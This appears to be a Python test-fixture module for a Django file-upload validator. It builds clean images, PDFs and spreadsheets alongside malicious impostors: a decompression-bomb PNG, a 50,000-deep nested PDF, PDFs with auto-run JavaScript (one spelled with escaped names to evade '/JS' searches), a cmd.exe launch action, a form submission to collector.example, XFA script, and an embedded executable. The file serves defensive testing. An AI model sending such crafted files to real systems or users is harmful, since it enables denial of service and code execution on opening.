"""Real files of each accepted kind, and impostors, built in memory."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

from django.core.files.base import ContentFile
from PIL import Image


def png_bytes(size=(8, 8)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


@functools.cache
def huge_png_bytes(width: int = 30_000, height: int = 30_000) -> bytes:
    """A real, black, 1-bit PNG of ``width``×``height`` pixels: a few hundred kilobytes on
    disk, gigabytes once decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte, then the packed bits
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(row * 1000) for _ in range(height // 1000))
    rows += packer.compress(row * (height % 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def jpeg_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (30, 30, 200)).save(buffer, format="JPEG")
    return buffer.getvalue()


PDF_WITHOUT_XREF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def pdf_bytes() -> bytes:
    """A minimal PDF written by hand, with its cross-reference table."""
    return _hand_written_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"])


def pdf_with_escaped_javascript_names() -> bytes:
    """/OpenAction JavaScript spelt /J#53 and /Java#53cript: the same names to a viewer, but
    no "/JS" in the bytes for a plain search to find."""
    return _hand_written_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>>>",
            b"<</Type/Pages/Kids[]/Count 0>>",
        ]
    )


def deeply_nested_pdf_bytes() -> bytes:
    """An array nested 50,000 deep: a parser that recurses runs out of stack."""
    nested = b"[" * 50_000 + b"]" * 50_000
    return _hand_written_pdf(
        [b"<</Type/Catalog/Pages 2 0 R/X " + nested + b">>", b"<</Type/Pages/Kids[]/Count 0>>"]
    )


def _hand_written_pdf(objects: list[bytes]) -> bytes:
    """Objects 1…n (1 is the catalogue), a cross-reference table and a trailer."""
    body = b"%PDF-1.4\n"
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj%sendobj\n" % (number, obj)
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    trailer = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return body + trailer % (len(objects) + 1, xref)


def xlsx_bytes() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["日期", "温度"])
    workbook.active.append(["2026-07-20", 165])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return buffer.getvalue()


ELF_EXECUTABLE = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + b"\x90" * 200
WINDOWS_EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"This program cannot be run"


def upload(name: str, data: bytes):
    """A file as a caller hands it over. (Django's UploadedFile would strip folders from the
    name itself; a ContentFile keeps the name as given, which is what these tests need.)"""
    return ContentFile(data, name=name)


# --- PDFs that would run something when opened (built with pypdf: real files) ---------------


def _pdf_writer():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def _written(writer) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def clean_pdf_bytes() -> bytes:
    """A one-page PDF as pypdf writes it (with a cross-reference table, unlike pdf_bytes)."""
    return _written(_pdf_writer())


def pdf_with_open_action_javascript() -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('opened');"),
        }
    )
    return _written(writer)


def pdf_with_document_javascript() -> bytes:
    """JavaScript in the document's name tree, which viewers run when the file opens."""
    from pypdf.actions import JavaScript

    writer = _pdf_writer()
    writer.add_open_action(JavaScript("app.alert('document script');"))
    return _written(writer)


def pdf_with_launch_action() -> bytes:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    return _written(writer)


def pdf_with_open_action(action: str) -> bytes:
    """A PDF whose opening runs the action ``action`` (e.g. ``/SubmitForm``, ``/GoToE``)."""
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject(action),
            NameObject("/F"): TextStringObject("https://collector.example/submit"),
        }
    )
    return _written(writer)


def pdf_with_xfa_form() -> bytes:
    """A PDF with an XFA form: its XML may carry scripts that Acrobat runs."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = _pdf_writer()
    xfa = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): TextStringObject(xfa),
        }
    )
    return _written(writer)


def pdf_with_embedded_file() -> bytes:
    writer = _pdf_writer()
    writer.add_attachment("setup.exe", WINDOWS_EXECUTABLE)
    return _written(writer)


def encrypted_pdf_bytes() -> bytes:
    writer = _pdf_writer()
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    return _written(writer)


def malformed_pdf_bytes() -> bytes:
    """Starts and ends like a PDF, but its body is garbage."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\ntrailer<</Root 99 0 R>>\n%%EOF\n"
